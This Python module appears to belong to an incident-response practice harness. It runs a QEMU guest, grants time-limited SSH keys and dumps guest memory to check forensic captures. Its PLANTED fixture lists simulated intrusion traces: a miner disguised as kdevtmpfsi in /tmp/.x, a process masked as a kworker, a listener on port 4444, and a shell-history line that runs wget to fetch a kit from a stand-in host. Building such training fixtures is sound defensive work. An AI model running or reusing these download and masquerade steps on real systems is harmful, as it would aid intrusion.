# SPDX-License-Identifier: Apache-2.0
"""The practice machine as it runs: QEMU as a child, its console, keys, and memory from outside.

Source: QEMU "QMP reference" (stop, cont, pmemsave, human-monitor-command); EC2 User Guide, "Connect
using EC2 Instance Connect" (a pushed key serves for 60 seconds).
"""

from __future__ import annotations

import contextlib
import json
import re
import shlex
import shutil
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from types import TracebackType
from typing import Any, Self

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
)

from pipeline.gameday.disks import tool
from pipeline.gameday.guest.build import GuestError, Image

PORTS = (22, 4444)
USER = "responder"
_ADDRESS = "10.0.2.15"
_READY = "PRACTICE-READY"
_TRUTH = "PRACTICE-TRUTH "
_FOREVER_S = 10 * 365 * 86400

# What recipe/practice-start and recipe/plant.c plant, beside the process ids of this boot.
PLANTED: dict[str, Any] = {
    "processes": {
        "plant": {
            "comm": "kdevtmpfsi", "argv": ["/tmp/.x/miner", "/tmp/.x/loot"],  # noqa: S108
            "executable": "/tmp/.x/miner", "deleted": True,  # noqa: S108
            "environment": "PRACTICE_MARK=environment-mark-5e1f",
        },
        "masked": {"comm": "sleep", "argv": ["[kworker/9:9]", "8640000"]},
        "shell": {"comm": "bash", "argv": ["bash", "--norc", "-i"]},
    },
    "sockets": [
        {"process": "plant", "protocol": "tcp", "state": "LISTEN", "local": "0.0.0.0:4444"},
        {"process": "plant", "protocol": "tcp", "state": "ESTAB", "peer": "127.0.0.1:4444"},
        {"process": "plant", "protocol": "udp", "state": "UNCONN", "local": "0.0.0.0:5355"},
    ],
    "memory": {
        "executable page": "executable-page-mark-77c3",
        "deleted open file": "deleted-open-file-mark-9b20",
        "page cache": "page-cache-file-mark-1d44",
        "environment": "environment-mark-5e1f",
        "shell history": "wget -q http://203.0.113.7/kit.tgz -O /tmp/.x/kit.tgz",
    },
    "files": {
        "/home/responder/notes.txt": "page cache",
        "/tmp/.x/loot": "deleted, open in plant",  # noqa: S108
    },
}  # fmt: skip


class Guest:
    """A machine that runs while the context does, and no longer than this process.

    Args:
        image: from `guest_image`.
        folder: for console, keys and dumps of this boot; made if it is not there.
        append: more for the kernel's command line: `lockdown=confidentiality`,
            `sysctl.kernel.kptr_restrict=2`, `impound.sshd=MaxSessions:1`, `impound.requiretty`.
        la57: five levels of page tables.
        memory_mib: RAM.
        seconds: how long it may take to start.

    Attributes:
        key: path of the private key of USER, made for this boot (OpenSSH format, mode 0600).
        host_key: one line, "ssh-ed25519 …".
        truth: what was planted (PLANTED) with `version` (/proc/version), `pids` and `modules`.
    """

    def __init__(
        self, image: Image, folder: Path, *, append: str = "", la57: bool = False,
        memory_mib: int = 128, seconds: float = 120.0,
    ) -> None:  # fmt: skip
        self.image, self.folder = image, folder.absolute()
        self.append, self.la57, self.memory_mib = append, la57, memory_mib
        self.seconds = seconds
        self.host_key = image.host_key
        self.key = self.folder / "key"
        self.keys = self.folder / "keys"
        self.truth: dict[str, Any] = {}
        self._ports: dict[int, int] = {}
        self._process: subprocess.Popen[bytes] | None = None

    def __enter__(self) -> Self:
        self.keys.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(_serve_keys(), self.folder / "serve-keys")
        own = Ed25519PrivateKey.generate()
        self.key.touch(0o600)
        self.key.write_bytes(
            own.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption())
        )  # fmt: skip
        public = own.public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()
        self.public_key = public
        for user in (USER, "careful", "plain"):
            self.authorize(user, public, _FOREVER_S)
        ours, theirs = socket.socketpair()
        with theirs, (self.folder / "qemu.log").open("wb") as said:
            self._process = subprocess.Popen(
                self._command(theirs.fileno()), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                stderr=said, pass_fds=[theirs.fileno()],
                cwd=self.folder,
            )  # fmt: skip
        try:
            self._monitor = _Monitor(ours)
            self._wait()
            self._ports = self._forwarded()
        except BaseException:
            self.__exit__(None, None, None)
            raise
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:  # fmt: skip
        if self._process:
            self._process.kill()
            self._process.wait()
        if monitor := getattr(self, "_monitor", None):
            monitor.close()

    def port(self, inside: int = 22) -> int:
        """Return the port on 127.0.0.1 that leads to one of PORTS of the machine."""
        return self._ports[inside]

    def authorize(self, user: str, key: str, seconds: float = 60.0) -> None:
        """Let a public key log in as a user for a while, as EC2 Instance Connect does.

        Args:
            user: of the machine.
            key: one line in OpenSSH format.
            seconds: from now.
        """
        with (self.keys / user).open("a") as f:
            f.write(f"{int(time.time() + seconds)} {key.strip()}\n")

    @property
    def log(self) -> str:
        """Its console so far."""
        path = self.folder / "console"
        return path.read_text(errors="replace") if path.exists() else ""

    def stop(self) -> None:
        """Halt its processor; nothing in it changes until `cont`."""
        self._monitor.execute("stop")

    def cont(self) -> None:
        """Let it go on."""
        self._monitor.execute("cont")

    def dump(self, path: Path) -> Path:
        """Write its whole physical memory, byte 0 first, while it stands still; return `path`.

        Seen from the hypervisor: what a capture is compared with. Not atomic unless it is stopped,
        so it is stopped for as long as this takes.
        """
        self.stop()
        try:
            self._monitor.execute(
                "pmemsave", val=0, size=self.memory_mib << 20, filename=str(path.absolute())
            )
        finally:
            self.cont()
        return path

    @contextlib.contextmanager
    def halted(self) -> Iterator[None]:
        """Stopped, and going on afterwards."""
        self.stop()
        try:
            yield
        finally:
            self.cont()

    def reboot(self) -> None:
        """Start over, as by its reset button; return when it is up again."""
        (self.folder / "console").rename(self.folder / "console.before")
        (self.folder / "console").touch()
        self._monitor.execute("chardev-change", id="console", backend={
            "type": "file", "data": {"out": str(self.folder / "console")},
        })  # fmt: skip
        self._monitor.execute("system_reset")
        self._wait()

    def _command(self, monitor: int) -> list[str]:
        forwards = "".join(f",hostfwd=tcp:127.0.0.1:0-{_ADDRESS}:{p}" for p in PORTS)
        serve = _option(shlex.join(["sh", str(self.folder / "serve-keys"), str(self.keys)]))
        line = f"console=ttyS0 quiet panic=-1 net.ifnames=0 {self.append}".strip()
        return [
            tool("setpriv") or "setpriv", "--pdeathsig", "KILL", "--",
            tool("qemu-system-x86_64") or "qemu-system-x86_64",
            "-M", "q35", "-accel", "tcg,thread=multi", "-smp", "1", "-m", str(self.memory_mib),
            "-cpu", f"max,la57={'on' if self.la57 else 'off'}",
            "-no-user-config", "-nodefaults", "-display", "none",
            "-kernel", str(self.image.kernel), "-initrd", str(self.image.initrd), "-append", line,
            "-drive", f"file={_option(self.image.disk)},format=raw,if=virtio,snapshot=on",
            "-netdev", f"user,id=n0,restrict=on{forwards},guestfwd=tcp:10.0.2.100:80-cmd:{serve}",
            "-device", "virtio-net-pci,netdev=n0,romfile=",
            "-chardev", f"file,id=console,path={_option(self.folder / 'console')}",
            "-serial", "chardev:console",
            "-chardev", f"socket,id=monitor,fd={monitor}", "-mon", "chardev=monitor,mode=control",
        ]  # fmt: skip

    def _wait(self) -> None:
        assert self._process  # noqa: S101
        until = time.monotonic() + self.seconds
        while _READY not in self.log:
            if self._process.poll() is not None:
                said = (self.folder / "qemu.log").read_text(errors="replace").strip()
                raise GuestError(f"QEMU ended with {self._process.returncode}: {said[-400:]}")
            if time.monotonic() > until:
                raise GuestError(
                    f"the practice machine is not up after {self.seconds:.0f} s: "
                    f"{self.log.strip()[-400:]}",
                    hint=f"its console is in {self.folder / 'console'}",
                )
            time.sleep(0.1)
        line = next(x for x in self.log.splitlines() if x.startswith(_TRUTH))
        told = json.loads(line.removeprefix(_TRUTH))
        self.truth = {**PLANTED, **told, "modules": told["modules"].split()}

    def _forwarded(self) -> dict[int, int]:
        said = self._monitor.execute("human-monitor-command", **{"command-line": "info usernet"})
        found = re.findall(r"HOST_FORWARD\D+\d+\s+127\.0\.0\.1\s+(\d+)\s+\S+\s+(\d+)", said)
        ports = {int(inside): int(outside) for outside, inside in found}
        if set(ports) != set(PORTS):
            raise GuestError(f"QEMU does not forward {PORTS}: {said}")
        return ports


class _Monitor:
    """QEMU's machine protocol over one socket."""

    def __init__(self, connection: socket.socket) -> None:
        connection.settimeout(60)
        self._socket = connection
        self._lines = connection.makefile("rwb", buffering=0)
        self._answer()  # its greeting
        self.execute("qmp_capabilities")

    def execute(self, command: str, **arguments: Any) -> Any:
        """Run a command; return what it returns. Raises: GuestError."""
        asked = {"execute": command, "arguments": arguments}
        try:
            self._lines.write(json.dumps(asked).encode() + b"\n")
            while True:
                answer = self._answer()
                if "return" in answer:
                    return answer["return"]
                if "error" in answer:
                    raise GuestError(f"QEMU refuses {command}: {answer['error'].get('desc')}")
        except OSError as e:
            raise GuestError(f"QEMU does not answer {command}: {e}") from e

    def _answer(self) -> dict[str, Any]:
        line = self._lines.readline()
        if not line:
            raise GuestError("QEMU closed its monitor")
        answer: dict[str, Any] = json.loads(line)
        return answer

    def close(self) -> None:
        """Close the socket."""
        self._lines.close()
        self._socket.close()


def _option(value: str | Path) -> str:
    """A value among QEMU's options: a comma ends it, two are one."""
    return str(value).replace(",", ",,")


def _serve_keys() -> Path:
    return Path(__file__).with_name("recipe") / "serve-keys"
